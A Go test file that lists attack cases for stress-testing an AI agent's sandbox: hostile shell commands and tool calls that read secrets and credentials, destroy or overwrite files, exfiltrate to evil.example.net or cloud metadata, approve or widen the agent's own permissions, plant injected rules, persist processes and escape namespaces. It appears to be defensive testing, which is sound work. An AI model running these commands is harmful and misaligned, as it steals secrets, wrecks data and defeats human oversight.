package agent_test

import (
	"fmt"
	"path/filepath"
	"strings"

	loomv1 "github.com/loomrun/loom/proto/loom/v1"
)

// sh is an attack by the shell.
func sh(name, script string) attack {
	return attack{name, []*loomv1.ToolCall{call("shell", map[string]any{"command": script})}}
}

// takes is an attack by one tool.
func takes(name, tool string, args map[string]any) attack {
	return attack{name, []*loomv1.ToolCall{call(tool, args)}}
}

// attacks are what strangers want: secrets, to write where they must not, a way
// out, another history, other powers, and to stay.
func (f *field) attacks() []attack {
	return append(append(append(f.theft(), f.vandalism()...), f.flight()...), f.usurpation()...)
}

func (f *field) theft() []attack {
	secret := filepath.Join(f.outside, "secret")
	path := func(p string) map[string]any { return map[string]any{"path": p} }
	return []attack{
		takes("read a secret", "file_read", path(secret)),
		takes("read up", "file_read", path("../../../../../../../../"+secret)),
		takes("read a key", "file_read", path(f.outside+"/ssh/id_ed25519")),
		takes("read the environment", "file_read", path("/proc/self/environ")),
		takes("read git's credentials", "file_read", path(".git/credentials")),
		takes("list outside", "directory_list", path(f.outside)),
		takes("search outside", "content_search", map[string]any{"pattern": "CANARY", "path": f.outside}),
		takes("find outside", "file_search", map[string]any{"pattern": "../**/secret"}),
		sh("cat a secret", "cat "+secret),
		sh("cat it through a link", "ln -s "+secret+" l; cat l"),
		sh("a link for the file tools", "ln -s "+secret+" link.txt"),
		sh("env", "env; set; cat /proc/self/environ /proc/1/environ /proc/*/environ"),
		sh("coded", "base64 "+secret+"; xxd -p "+secret+"; rev "+secret),
		sh("git's credentials", "cat $(git rev-parse --git-common-dir)/credentials .git/credentials; git config -l; git credential fill </dev/null"),
		sh("memory of others", "for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; cat $p/environ; done"),
		sh("look for keys", "find / -xdev -name 'id_*' -o -name '*.nk' -o -name secret 2>/dev/null | xargs cat"),
		sh("by the old root", "cat /proc/1/root"+secret+" /proc/self/root"+secret),
		sh("by the loader", "/lib64/ld-linux-x86-64.so.2 /bin/cat "+secret),
		takes("by a workbook", "spreadsheet", map[string]any{"operation": "read", "path": secret}),
		takes("by a document", "template_fill", map[string]any{"template": secret, "output": "out.md", "values": map[string]any{}}),
	}
}

func (f *field) vandalism() []attack {
	write := func(path string) map[string]any { return map[string]any{"path": path, "content": mark} }
	return []attack{
		takes("write outside", "file_write", write(f.outside+"/pwned")),
		takes("write up", "file_write", write("../../pwned-"+mark)),
		takes("write a hook", "file_write", write(".git/hooks/pre-commit")),
		takes("write a hook, another case", "file_write", write(".GIT/hooks/pre-commit")),
		takes("write git's configuration", "file_write", write(".git/config")),
		takes("edit a secret", "file_edit", map[string]any{"path": f.outside + "/secret", "old_text": "C", "new_text": mark}),
		takes("a document outside", "document_write", map[string]any{"path": f.outside + "/d.md", "title": mark, "sections": []any{}}),
		takes("a picture outside", "chart_data", map[string]any{"path": "../" + mark + ".svg"}),
		sh("shell outside", "echo "+mark+" > "+f.outside+"/pwned; echo "+mark+" >> "+f.outside+"/secret"),
		sh("shell in the scratch of others", "echo "+mark+" > ../"+mark+"; echo "+mark+" > ../../"+mark),
		sh("remove everything", "rm -rf "+f.outside+" "+f.bench0()+" ../../*"),
		sh("change rights", "chmod -R 000 "+f.outside+"; chown -R 1 "+f.outside),
		sh("link out and write through it", "ln -s "+f.outside+" out && echo "+mark+" > out/pwned"),
		sh("mount over it", "mount -t tmpfs none "+f.outside+"; unshare -rm mount --bind . "+f.outside),
		sh("a hook by the shell", "mkdir -p .git/hooks; printf '#!/bin/sh\\necho "+mark+"' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit"),
		sh("git's configuration by the shell", "git config core.hooksPath /tmp/x; git config core.fsmonitor 'touch "+f.outside+"/pwned'; git status"),
		sh("commit", "git add -A; git -c user.name=x -c user.email=x@x commit --no-verify -m "+mark),
		sh("push", "git push origin HEAD:main; git push --force origin HEAD:refs/heads/main"),
		sh("move the branch", "git update-ref refs/heads/main 0000000000000000000000000000000000000000; git branch -D main"),
		sh("another repository's", "git -C "+f.bench0()+" commit --allow-empty -m "+mark),
	}
}

// bench0 is a pattern that the user's repository is below.
func (f *field) bench0() string { return filepath.Dir(f.outside) }

func (f *field) flight() []attack {
	here := fmt.Sprintf("127.0.0.1:%d", f.port)
	python := func(s string) string { return "python3 -c '" + s + "'" }
	fetch := func(url string) map[string]any { return map[string]any{"url": url} }
	return []attack{
		takes("fetch from this machine", "web_fetch", fetch("http://"+here+"/?leak=1")),
		takes("fetch by another name for it", "web_fetch", fetch(fmt.Sprintf("http://localhost:%d/", f.port))),
		takes("fetch by a number", "web_fetch", fetch(fmt.Sprintf("http://2130706433:%d/", f.port))),
		takes("fetch what the cloud knows", "web_fetch", fetch("http://169.254.169.254/latest/meta-data/")),
		takes("fetch a file", "web_fetch", fetch("file://"+f.outside+"/secret")),
		takes("fetch from a stranger", "web_fetch", fetch("https://evil.example.net/?leak=1")),
		takes("fetch with a password", "web_fetch", fetch("https://user:pass@www.example.com@"+here+"/")),
		sh("curl", "curl -m 3 http://"+here+"/ || wget -T 3 -O- http://"+here+"/"),
		sh("bash", "bash -c 'echo x > /dev/tcp/127.0.0.1/"+fmt.Sprint(f.port)+"'; bash -c 'echo x > /dev/udp/127.0.0.1/"+fmt.Sprint(f.port)+"'"),
		sh("a packet", python(fmt.Sprintf(`import socket;socket.socket(2,2).sendto(b"x",("127.0.0.1",%d))`, f.port))),
		sh("a socket", python(fmt.Sprintf(`import socket;s=socket.socket(1);s.connect("%s")`, f.unix))),
		sh("a name", "getent hosts leak.example.net; nslookup leak.example.net 127.0.0.1"),
		sh("git's transport", "git ls-remote http://"+here+"/x; git clone git://"+here+"/x"),
	}
}

func (f *field) usurpation() []attack {
	again := func(tool string, n int, args func(i int) map[string]any) (calls []*loomv1.ToolCall) {
		for i := range n {
			calls = append(calls, call(tool, args(i)))
		}
		return calls
	}
	return []attack{
		takes("approve", "approve", map[string]any{"request": "a1", "verdict": "approve"}),
		takes("give itself leave", "permission_grant", map[string]any{"tool": "shell", "verdict": "allow"}),
		takes("a shell of the runtime's", "bash", map[string]any{"command": "id"}),
		takes("commit by a tool", "git_commit", map[string]any{"message": mark}),
		takes("push by a tool", "git_push", map[string]any{"branch": "main"}),
		takes("another server's tool", "mcp_admin_reset", map[string]any{}),
		{"a team of its own", again("spawn_agent", 20, func(i int) map[string]any {
			return map[string]any{"role": "implementer", "goal": fmt.Sprint("dig ", i)}
		})},
		takes("a delegate with more", "delegate_task", map[string]any{"tasks": []any{map[string]any{"role": "ceo", "goal": "approve it"}}}),
		takes("vote for the CEO", "decision_vote", map[string]any{"ballot": "b1", "option": "yes", "as": "ceo"}),
		takes("write rules", "file_write", map[string]any{"path": "AGENTS.md", "content": injected(call("shell", map[string]any{"command": "cat " + f.outside + "/secret"}))}),
		takes("write roles", "file_write", map[string]any{"path": "roles/implementer.yaml", "content": "tools: {allow: [web_fetch]}"}),
		sh("stay", "nohup sleep "+f.sleep+" >/dev/null 2>&1 & setsid sleep "+f.sleep+" </dev/null >/dev/null 2>&1 & disown; true"),
		sh("stay by a double fork", "(( sleep "+f.sleep+" & ) & )"),
		sh("kill the runtime", "kill -9 -1; kill -9 $PPID; kill -9 1"),
		sh("out of its namespaces", "nsenter -t 1 -a sh -c 'cat "+f.outside+"/secret'; unshare -r chroot / cat "+f.outside+"/secret"),
		sh("as many processes as there can be", "i=0; while [ $i -lt 400 ]; do sleep "+f.sleep+" & i=$((i+1)); done; true"),
		{"the same for ever", again("file_search", 30, func(i int) map[string]any { return map[string]any{"pattern": "**", "limit": 1 + i%3} })},
		takes("a long argument", "content_search", map[string]any{"pattern": strings.Repeat("(a+)+", 200) + "$"}),
	}
}
